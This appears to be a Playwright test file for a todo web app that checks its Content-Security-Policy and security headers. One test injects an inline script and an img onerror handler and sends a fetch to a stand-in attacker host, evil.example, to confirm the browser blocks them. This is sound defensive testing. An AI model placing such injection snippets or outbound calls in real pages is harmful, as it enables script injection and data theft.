import { expect } from "@playwright/test";
import { API, add, box, openDetails, openPalette, openTodos, signOut, test, watch } from "./support";

test("every page comes with a strict policy that names the API", { tag: "@quick" }, async ({ request }) => {
  const paths = [
    "/",
    "/today",
    "/upcoming",
    "/done",
    "/trash",
    "/tag",
    "/search",
    "/share",
    "/sign-in",
    "/register",
    "/forgot",
    "/reset",
    "/verify",
    "/no/such/page",
  ];
  const settings = ["", "/security", "/devices", "/tokens", "/activity", "/data"].map(
    (part) => `/settings${part}`,
  );
  for (const path of [...paths, ...settings]) {
    const headers = (await request.get(path)).headers();
    const policy = headers["content-security-policy"] ?? "";
    expect(policy, path).toMatch(/script-src 'self'( 'sha256-[\w+/=]+')+;/);
    expect(policy).toContain(`connect-src 'self' ${new URL(API).origin};`);
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toContain("unsafe-eval");
    expect(headers).toMatchObject({
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "referrer-policy": "strict-origin-when-cross-origin",
      "cross-origin-opener-policy": "same-origin",
    });
    expect(headers["permissions-policy"]).toContain("camera=()");
    expect(headers["x-powered-by"]).toBeUndefined();
  }
});

test("normal use breaks no rule of the policy", async ({ page, account }) => {
  const messages = watch(page);
  await openTodos(page);
  await add(page, account.email);
  const details = await openDetails(page, account.email);
  await details.getByRole("button", { name: "Choose a day" }).click();
  await details.getByRole("grid").getByRole("button").first().click();
  await details.getByRole("button", { name: "Close the details" }).click();
  const palette = await openPalette(page);
  await page.keyboard.press("Escape");
  await expect(palette).toHaveCount(0);
  await page.getByRole("button", { name: /^Account of/ }).click();
  await page.getByRole("menuitem", { name: "Settings" }).click();
  await page.getByRole("radio", { name: "Dark" }).check();
  await page.goto("/no/such/page");
  await page.getByRole("link", { name: "To your todos" }).click();
  await expect(box(page, account.email)).toBeVisible();
  await signOut(page);
  expect(messages).toEqual([]);
});

test("an injected script does not run, and cannot send anything away", { tag: "@quick" }, async ({
  page,
  account,
}) => {
  await openTodos(page);
  await add(page, account.email);
  const outcome = await page.evaluate(async () => {
    const inline = document.createElement("script");
    inline.textContent = "globalThis.injected = true";
    document.body.append(inline);
    document.body.insertAdjacentHTML("beforeend", '<img src="/none" onerror="globalThis.injected = true">');
    const away = await fetch("https://evil.example/", { mode: "no-cors" }).then(
      () => "sent",
      () => "blocked",
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran: "injected" in globalThis, away };
  });
  expect(outcome).toEqual({ ran: false, away: "blocked" });
});

test("the address of the API is learnt at run time", async ({ request }) => {
  const response = await request.get("/config.json");
  expect(await response.json()).toEqual({ api_origin: new URL(API).origin });
  expect(response.headers()["cache-control"]).toBe("no-store");
});
